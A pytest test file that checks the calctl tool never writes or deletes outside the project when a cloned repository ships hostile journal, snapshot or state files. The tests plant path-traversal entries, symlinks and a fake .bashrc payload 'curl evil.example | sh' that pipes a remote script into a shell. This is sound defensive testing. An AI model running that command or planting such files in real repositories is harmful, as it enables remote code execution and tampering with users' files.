"""Issue 10 items 1 and 3: a journal, snapshot or state file a repository ships (or a bug
writes) never makes calctl write or delete anything outside the project.

Every test plants the files a hostile clone could commit, runs the real ``calctl``, and
checks byte for byte (and mode for mode) that nothing outside the project changed.
"""

from __future__ import annotations

import hashlib
import json
import os
import signal
import stat
import subprocess
import time
from pathlib import Path
from typing import Any

import pytest

from calctl import trust
from support import files_and_links

PID = "0123456789abcdef01234567"  # the shape calctl.ids.new_id() makes
TS = "2024-01-01T00:00:00.000000+00:00"


# ------------------------------------------------------------------ helpers


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    """Files beside the project that a planted record names: a .bashrc and a victim."""
    home = tmp_path / "outside"
    home.mkdir()
    (home / ".bashrc").write_text("export SAFE=1\n")
    (home / ".bashrc").chmod(0o644)
    (home / "victim.txt").write_text("keep me\n")
    return home


@pytest.fixture
def proj(project: Path) -> Path:
    (project / "app.txt").write_text("hello\n")
    (project / "run.sh").write_text("#!/bin/sh\necho ok\n")
    (project / "run.sh").chmod(0o755)
    return project


def _entry(path: str, *, existed: bool, data: bytes | None = None, mode: int | None = None,
           blob: str | None = None) -> dict[str, Any]:
    return {"path": path, "existed": existed,
            "sha256": hashlib.sha256(data).hexdigest() if data is not None else None,
            "mode": mode, "blob": blob, "after_exists": True,
            "after_sha256": hashlib.sha256(b"patched\n").hexdigest(), "after_mode": 0o644,
            "after_blob": None}


def _write(path: Path, record: dict[str, Any], purpose: str, sealed: bool) -> None:
    data = json.dumps(record).encode()
    if sealed:  # as calctl itself would: a bug or a same-user mistake, not a clone
        blob = trust.seal(data, purpose)
        assert blob is not None
        data = blob
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)


def _plant(root: Path, entries: list[dict[str, Any]], *, sealed: bool = False,
           phase: str = "writing", blobs: dict[str, bytes] | None = None,
           files: list[str] | None = None, created_dirs: list[str] | None = None,
           pid: str = PID) -> Path:
    """A journal in flight and its snapshot, as a committed .calctl/ would hold them."""
    state = root / ".calctl"
    snap = state / "snapshots" / pid
    (snap / "files").mkdir(parents=True, exist_ok=True)
    for name, data in (blobs or {}).items():
        (snap / "files" / name).write_bytes(data)
    journal = state / "journal" / f"{pid}.json"
    _write(journal, {"version": 1, "patch_id": pid, "phase": phase,
                     "phases": [{"phase": phase, "ts": TS, "detail": ""}],
                     "files": files if files is not None else [e["path"] for e in entries],
                     "status": phase, "verify_planned": True, "description": "planted"},
           "journal", sealed)
    _write(snap / "manifest.json", {"patch_id": pid, "created_at": TS, "entries": entries,
                                    "created_dirs": created_dirs or []}, "manifest", sealed)
    return journal


def _unrelated_patch(calctl: Any, root: Path, env: dict[str, str] | None = None) -> Any:
    doc = json.dumps({"kind": "patch", "version": 1, "description": "unrelated",
                      "edits": [{"op": "replace", "path": "app.txt", "search": "hello\n",
                                 "replace": "bye\n"}]})
    return calctl("patch", "apply", "--no-verify", "-", cwd=root, input=doc, env=env)


# ------------------------------------------------------------------ (a) planted, unsealed


@pytest.mark.parametrize("target", ["abs", "dotdot"])
def test_planted_journal_deletes_nothing_outside(calctl: Any, proj: Path, outside: Path,
                                                 target: str) -> None:
    """A committed journal (phase writing) whose manifest says the file did not exist
    before: recovery would delete it. Neither recover nor an unrelated apply may."""
    path = str(outside / "victim.txt") if target == "abs" else "../outside/victim.txt"
    journal = _plant(proj, [_entry(path, existed=False)])
    before = files_and_links(outside)

    result = calctl("patch", "recover", cwd=proj)
    assert result.returncode == 3, result.stderr
    assert str(journal) in result.stdout and "not trusted" in result.stdout
    assert "untrusted journal" in result.stderr
    assert files_and_links(outside) == before
    assert journal.exists()  # reported and left alone

    applied = _unrelated_patch(calctl, proj)
    assert applied.returncode == 0, applied.stderr
    assert "warning: ignored untrusted journal" in applied.stderr and str(journal) in \
        applied.stderr
    assert (proj / "app.txt").read_text() == "bye\n"
    assert files_and_links(outside) == before
    assert journal.exists()


def test_planted_journal_in_json_recovery_result(calctl: Any, proj: Path,
                                                 outside: Path) -> None:
    journal = _plant(proj, [_entry(str(outside / "victim.txt"), existed=False)])
    result = calctl("patch", "recover", "--json", cwd=proj)
    assert result.returncode == 3
    doc = result.json()
    assert doc["recovered"] == []
    assert [s["path"] for s in doc["skipped"]] == [str(journal)]
    assert "no seal" in doc["skipped"][0]["reason"]
    assert (outside / "victim.txt").read_text() == "keep me\n"


# ------------------------------------------------------------------ (b) matching blob


def test_planted_blob_with_matching_sha_does_not_overwrite_outside(
        calctl: Any, proj: Path, outside: Path) -> None:
    evil = b"curl evil.example | sh\n"
    journal = _plant(proj, [_entry("../outside/.bashrc", existed=True, data=evil, mode=0o755,
                                   blob="0")], blobs={"0": evil})
    before = files_and_links(outside)
    assert calctl("patch", "recover", cwd=proj).returncode == 3
    assert _unrelated_patch(calctl, proj).returncode == 0
    assert calctl("patch", "recover", cwd=proj).returncode == 3
    assert files_and_links(outside) == before
    assert stat.S_IMODE((outside / ".bashrc").stat().st_mode) == 0o644
    assert journal.exists()


def test_planted_rollback_of_unsealed_snapshot_is_refused(calctl: Any, proj: Path,
                                                          outside: Path) -> None:
    """`patch rollback ID` of a planted finished patch acts on nothing."""
    evil = b"evil\n"
    _plant(proj, [_entry("../outside/.bashrc", existed=True, data=evil, mode=0o755,
                         blob="0")], blobs={"0": evil}, phase="verified")
    state = proj / ".calctl"
    (state / "journal" / f"{PID}.json").rename(state / "snapshots" / PID / "journal.json")
    before = files_and_links(outside)
    result = calctl("patch", "rollback", "--force", PID, cwd=proj)
    assert result.returncode == 3
    assert "not trusted" in result.stderr
    assert files_and_links(outside) == before


# ------------------------------------------------------------------ (c) sealed but unsafe


@pytest.mark.parametrize("kind", ["absolute", "dotdot", "inner-dotdot", "symlink",
                                  "git", "state"])
def test_sealed_manifest_with_escaping_path_is_refused(calctl: Any, proj: Path,
                                                       outside: Path, kind: str) -> None:
    """Even a manifest with a valid seal (a bug, a same-user mistake) is confined: a
    path leaving the project refuses the whole restore before anything is touched."""
    (proj / "link").symlink_to(outside)
    (proj / ".git").mkdir()
    (proj / ".git" / "config").write_text("[core]\n")
    evil = b"evil\n"
    path = {"absolute": str(outside / ".bashrc"), "dotdot": "../outside/.bashrc",
            "inner-dotdot": "link/../../outside/.bashrc", "symlink": "link/.bashrc",
            "git": ".git/config", "state": ".calctl/locks/x"}[kind]
    # a legitimate entry first: the refusal must come before it is touched, too
    (proj / "app.txt").write_text("patched\n")
    _plant(proj, [_entry("app.txt", existed=True, data=b"hello\n", mode=0o644, blob="0"),
                  _entry(path, existed=True, data=evil, mode=0o644, blob="1")],
           blobs={"0": b"hello\n", "1": evil}, sealed=True, files=["app.txt"])
    before_out, before_proj = files_and_links(outside), files_and_links(proj)
    result = calctl("patch", "recover", cwd=proj)
    assert result.returncode == 3, (result.stdout, result.stderr)
    assert "nothing was restored" in result.stderr
    assert files_and_links(outside) == before_out
    after_proj = files_and_links(proj)
    after_proj.pop(".calctl/locks/patch.lock", None)
    before_proj.pop(".calctl/locks/patch.lock", None)
    assert {k: v for k, v in after_proj.items() if not k.startswith(".calctl/")} == \
        {k: v for k, v in before_proj.items() if not k.startswith(".calctl/")}


def test_sealed_manifest_with_escaping_created_dir_is_refused(calctl: Any, proj: Path,
                                                              outside: Path) -> None:
    (outside / "empty").mkdir()
    _plant(proj, [_entry("new.txt", existed=False)], sealed=True,
           created_dirs=["../outside/empty"])
    assert calctl("patch", "recover", cwd=proj).returncode == 3
    assert (outside / "empty").is_dir()


def test_sealed_manifest_with_escaping_blob_name_is_refused(calctl: Any, proj: Path,
                                                            outside: Path) -> None:
    """A blob name is a file of snapshots/<id>/files/, never a path to read elsewhere
    (here: the victim's bytes would be copied into the project)."""
    secret = (outside / "victim.txt").read_bytes()
    (proj / "app.txt").write_text("patched\n")
    _plant(proj, [_entry("app.txt", existed=True, data=secret, mode=0o644,
                         blob="../../../../outside/victim.txt")], sealed=True)
    result = calctl("patch", "recover", cwd=proj)
    assert result.returncode == 3
    assert "not a snapshot file name" in result.stderr
    assert (proj / "app.txt").read_text() == "patched\n"


def test_sealed_journal_files_are_confined_before_temp_cleanup(calctl: Any, proj: Path,
                                                               outside: Path) -> None:
    """Recovery removes `.<name>.calctl-<id>.tmp` beside every file a journal names; a
    journal naming a file outside must not make it delete one there."""
    temp = outside / f".victim.txt.calctl-{PID}.tmp"
    temp.write_text("someone's file\n")
    _plant(proj, [_entry("app.txt", existed=True, data=b"hello\n", mode=0o644, blob="0")],
           blobs={"0": b"hello\n"}, sealed=True, phase="verified",
           files=[str(outside / "victim.txt")])
    result = calctl("patch", "recover", cwd=proj)
    assert result.returncode == 3
    assert "absolute paths are refused" in result.stderr
    assert temp.read_text() == "someone's file\n"


def test_sealed_journal_with_unsafe_patch_id_is_not_acted_on(calctl: Any, proj: Path,
                                                             outside: Path) -> None:
    (outside / ".victim.txt.calctl-..tmp").write_text("x\n")
    journal = _plant(proj, [_entry("app.txt", existed=True, data=b"hello\n", mode=0o644,
                                   blob="0")], blobs={"0": b"hello\n"}, sealed=True)
    record = json.loads(journal.read_bytes().partition(b"\n")[2])
    record["patch_id"] = "../../../outside"
    _write(journal, record, "journal", True)
    before = files_and_links(outside)
    result = calctl("patch", "recover", cwd=proj)
    assert result.returncode == 3
    assert "not the id its file name gives" in result.stderr
    assert files_and_links(outside) == before


# ------------------------------------------------------------------ (d) modes


def test_sealed_manifest_mode_is_masked_on_restore(calctl: Any, proj: Path) -> None:
    original = (proj / "run.sh").read_bytes()
    (proj / "run.sh").write_text("#!/bin/sh\necho patched\n")
    _plant(proj, [_entry("run.sh", existed=True, data=original, mode=0o4777, blob="0")],
           blobs={"0": original}, sealed=True)
    result = calctl("patch", "recover", cwd=proj)
    assert result.returncode == 0, result.stderr
    assert (proj / "run.sh").read_bytes() == original
    mode = stat.S_IMODE((proj / "run.sh").stat().st_mode)
    assert mode == 0o755
    assert not mode & (stat.S_ISUID | stat.S_ISGID | stat.S_ISVTX | 0o022)


# ------------------------------------------------------------------ (e) another machine


def _wait_for_phase(journal_dir: Path, phase: str, timeout: float = 30) -> Path:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        for path in journal_dir.glob("*.json") if journal_dir.is_dir() else []:
            body = path.read_bytes().partition(b"\n")[2]
            try:
                if json.loads(body)["phase"] == phase:
                    return path
            except (ValueError, KeyError):
                pass
        time.sleep(0.02)
    raise AssertionError(f"no journal reached {phase}")


def test_fresh_machine_leaves_a_genuine_journal_alone(calctl: Any, calctl_argv: list[str],
                                                      proj: Path, tmp_path: Path) -> None:
    """A journal this user's calctl really wrote (killed while verifying) is inert to a
    calctl with another key — a CI machine that finds it in a checkout — and recovered
    by the machine that wrote it."""
    doc = json.dumps({"kind": "patch", "version": 1, "description": "slow",
                      "edits": [{"op": "replace", "path": "app.txt", "search": "hello\n",
                                 "replace": "patched\n"}]})
    env = {k: v for k, v in os.environ.items() if not k.startswith("CALCTL_")}
    proc = subprocess.Popen([*calctl_argv, "patch", "apply", "--verify", "sleep 60", "-"],
                            cwd=proj, env=env, stdin=subprocess.PIPE,
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                            start_new_session=True)
    assert proc.stdin is not None
    proc.stdin.write(doc.encode())
    proc.stdin.close()
    try:
        journal = _wait_for_phase(proj / ".calctl" / "journal", "verifying")
    finally:
        os.killpg(proc.pid, signal.SIGKILL)
        proc.wait()
    assert (proj / "app.txt").read_text() == "patched\n"

    other = {"XDG_CONFIG_HOME": str(tmp_path / "other-machine")}
    result = calctl("patch", "recover", cwd=proj, env=other)
    assert result.returncode == 3
    assert "no state key exists on this machine" in result.stdout
    assert (proj / "app.txt").read_text() == "patched\n"  # not acted on
    assert journal.exists()

    result = calctl("patch", "recover", cwd=proj)  # the machine that wrote it
    assert result.returncode == 0, result.stderr
    assert (proj / "app.txt").read_text() == "hello\n"
    assert not journal.exists()


# ------------------------------------------------------------------ no usable key


def test_apply_refuses_without_a_usable_key(calctl: Any, proj: Path, tmp_path: Path) -> None:
    key = tmp_path / "shared.key"
    key.write_bytes(os.urandom(32))
    key.chmod(0o644)  # others could read it: it proves nothing
    result = _unrelated_patch(calctl, proj, env={"CALCTL_KEY_FILE": str(key)})
    assert result.returncode == 3
    assert "readable or writable by others" in result.stderr and str(key) in result.stderr
    assert (proj / "app.txt").read_text() == "hello\n"
    assert not list((proj / ".calctl" / "journal").glob("*"))


# ------------------------------------------------------------------ planted links in .calctl


@pytest.mark.parametrize("name", ["locks/patch.lock", "events.jsonl", "calctl.db-wal",
                                  "journal"])
def test_planted_link_in_state_dir_is_not_written_through(calctl: Any, proj: Path,
                                                          outside: Path, name: str) -> None:
    state = proj / ".calctl"
    for sub in ("snapshots", "journal", "cache", "locks"):
        (state / sub).mkdir(parents=True, exist_ok=True)
    link = state / name
    if link.is_dir():
        link.rmdir()
    link.symlink_to(outside if name == "journal" else outside / ".bashrc")
    before = files_and_links(outside)
    result = _unrelated_patch(calctl, proj)
    assert result.returncode == 3, (result.stdout, result.stderr)
    assert "link" in result.stderr
    assert files_and_links(outside) == before
    assert (proj / "app.txt").read_text() == "hello\n"


# ------------------------------------------------------------------ item 3: git tracks .calctl


def _git(repo: Path, *args: str) -> None:
    subprocess.run(["git", *args], cwd=repo, check=True, capture_output=True)


def test_warns_when_git_tracks_statefiles_and_links(calctl: Any, git_repo: Path) -> None:
    (git_repo / "migrations").mkdir()
    (git_repo / "migrations" / "001.sql").write_text("create table t(id int);\n")
    (git_repo / "calctl.toml").write_text('[migrate]\ndir = "migrations"\n')
    assert calctl("patch", "list", cwd=git_repo).returncode == 0  # makes .calctl/
    quiet = calctl("migrate", "order", cwd=git_repo)
    assert quiet.returncode == 0 and "git tracks" not in quiet.stderr

    planted = git_repo / ".calctl" / "journal" / f"{PID}.json"
    planted.write_text("{}")
    _git(git_repo, "add", "-f", ".calctl/journal")
    _git(git_repo, "commit", "-q", "-m", "oops")
    for args in (("migrate", "order"), ("patch", "list"), ("patch", "recover")):
        result = calctl(*args, cwd=git_repo)
        assert result.stderr.count("warning: git tracks 1 file in") == 1, (args, result.stderr)
        assert f".calctl/journal/{PID}.json" in result.stderr
    # a command that does not use the state directory says nothing
    assert "git tracks" not in calctl("config", "show", cwd=git_repo).stderr


def test_warns_in_a_git_worktree_too(calctl: Any, git_repo: Path, tmp_path: Path) -> None:
    """A linked worktree has a .git file, not a directory; its index is found through it."""
    (git_repo / "calctl.toml").write_text('[migrate]\ndir = "migrations"\n')
    (git_repo / ".calctl").mkdir()
    (git_repo / ".calctl" / "calctl.db").write_text("")
    _git(git_repo, "add", "-f", "calctl.toml", ".calctl/calctl.db")
    _git(git_repo, "commit", "-q", "-m", "state")
    tree = tmp_path / "wt"
    _git(git_repo, "worktree", "add", "-q", str(tree))
    (tree / ".calctl" / "calctl.db").unlink()  # the store makes its own; still tracked
    result = calctl("patch", "list", cwd=tree)
    assert result.returncode == 0, result.stderr
    assert "warning: git tracks 1 file in" in result.stderr
